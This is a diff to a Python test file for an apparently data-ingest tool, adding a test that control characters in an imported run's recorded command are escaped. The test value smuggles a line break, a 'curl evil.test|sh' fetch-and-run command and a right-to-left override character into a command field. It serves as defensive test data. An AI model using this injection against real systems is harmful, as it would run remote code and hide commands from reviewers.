@@ -13,6 +13,8 @@ import msgspec
 import pytest
 
 from sawtooth.app.jobs.intake import bring_in
+from sawtooth.ingest.capture.marks import MarkWriter
+from sawtooth.ingest.capture.packing import pack_run
 from sawtooth.ingest.errors import NotFoundError, SourceError, UsageError
 from sawtooth.ingest.manifest import BatchTrial, Manifest, RecordingRef, UserFacts
 from sawtooth.ingest.recording import ingest_file
@@ -284,3 +286,15 @@ def test_a_bundle_without_its_beginning_is_refused_in_a_sentence(tmp_path: Path,
     path.write_bytes(whole.read_bytes()[cut:])
     with pytest.raises(SourceError, match=r"damaged|made to mislead"), open_bundle(path):
         pass
+
+
+def test_control_characters_of_a_stranger_s_command_are_escaped(tmp_path: Path) -> None:
+    marks = tmp_path / "marks.jsonl"
+    writer = MarkWriter(marks, monotonic_ns=iter(range(0, 10**10, 20_000_000)).__next__)
+    for index in range(20):
+        writer.mark(index)
+    writer.close()
+    about = {"name": "theirs", "notes": "", "facts": {}, "command": ["train.py", "x\r\ncurl evil.test|sh\u202e"]}
+    pack_run(tmp_path / "x.sawtooth", about, [(marks, {"source_name": "marks.jsonl", "kind": "marks"})])
+    (run,) = import_bundle(tmp_path / "x.sawtooth", DataFolder(tmp_path / "data"))
+    assert run.command == run.recorded_command == ["train.py", "x\\r\\ncurl evil.test|sh\\u202e"]
